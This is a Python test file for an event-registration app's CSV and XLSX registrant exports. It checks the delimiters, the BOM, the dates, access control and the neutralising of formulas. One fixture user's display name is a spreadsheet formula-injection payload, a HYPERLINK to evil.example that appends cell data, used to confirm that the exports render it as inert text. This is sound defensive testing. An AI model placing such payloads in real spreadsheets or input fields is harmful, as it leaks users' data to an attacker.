"""The registrants export opens in office software: .xlsx, and CSV with ";" and a BOM; formulas never run."""
import csv
import io
from datetime import date, datetime

import openpyxl
import pytest

from app.db import commit
from app.events import services
from app.events.models import SINGLE
from tests import factories
from tests.events.factories import make_event

DAY = date(2031, 6, 10)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")'


@pytest.fixture
def meeting(org, organiser, request_ctx):
    """Two places: Anna (of a Nowy Sącz association) and a hostile name get them, Zenon waits."""
    event = make_event(org, author=organiser, title="Spotkanie sieci", start_date=DAY, registration_enabled=True,
                       capacity=2, waiting_list=True)
    anna = factories.make_user(display_name="Anna Kowalska")
    factories.make_org(name="Stowarzyszenie Nowy Dom w Nowym Sączu", admin=anna)
    for person in (anna, factories.make_user(display_name=HOSTILE), factories.make_user(display_name="Zenon Żółć")):
        services.register_for_event(person, event, SINGLE)
    commit()
    return event


def test_the_csv_is_semicolon_separated_utf8_with_bom_and_the_organisations(client, meeting, organiser):
    client.login(organiser)
    response = client.get(f"/events/{meeting.id}/registrations.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    header, anna, hostile, zenon = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert header[:7] == ["Wydarzenie", "Data", "Imię i nazwisko", "Adres e-mail", "Organizacja", "Status",
                          "Miejsce na liście rezerwowej"]
    assert anna[1] == "2031-06-10 10:00" and anna[4] == "Stowarzyszenie Nowy Dom w Nowym Sączu"
    assert anna[5] == "potwierdzone" and anna[6] == ""
    assert zenon[2] == "Zenon Żółć" and zenon[6] == "1" and "liście rezerwowej" in zenon[5]
    assert hostile[2] == "'" + HOSTILE  # neutralised: a spreadsheet shows it as text


def test_the_xlsx_has_real_dates_and_never_a_formula(client, meeting, organiser, outsider):
    client.login(outsider)
    assert client.get(f"/events/{meeting.id}/registrations.xlsx").status_code == 403
    client.post_form("/auth/logout")
    client.login(organiser)
    response = client.get(f"/events/{meeting.id}/registrations.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="registrations-' in response.headers["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    header, anna, hostile, zenon = sheet.iter_rows()
    assert [c.value for c in header][4:7] == ["Organizacja", "Status", "Miejsce na liście rezerwowej"]
    assert anna[1].value == datetime(2031, 6, 10, 10, 0)  # Warsaw time, a date the spreadsheet can sort
    assert anna[4].value == "Stowarzyszenie Nowy Dom w Nowym Sączu"
    assert isinstance(anna[7].value, datetime)
    assert zenon[6].value == 1
    assert hostile[2].value == HOSTILE and hostile[2].data_type == "s"  # text, not a formula


def test_the_registrations_page_offers_both_files(client, meeting, organiser):
    client.login(organiser)
    page = client.get(f"/events/{meeting.id}/registrations").get_data(as_text=True)
    assert f"/events/{meeting.id}/registrations.xlsx" in page and f"/events/{meeting.id}/registrations.csv" in page
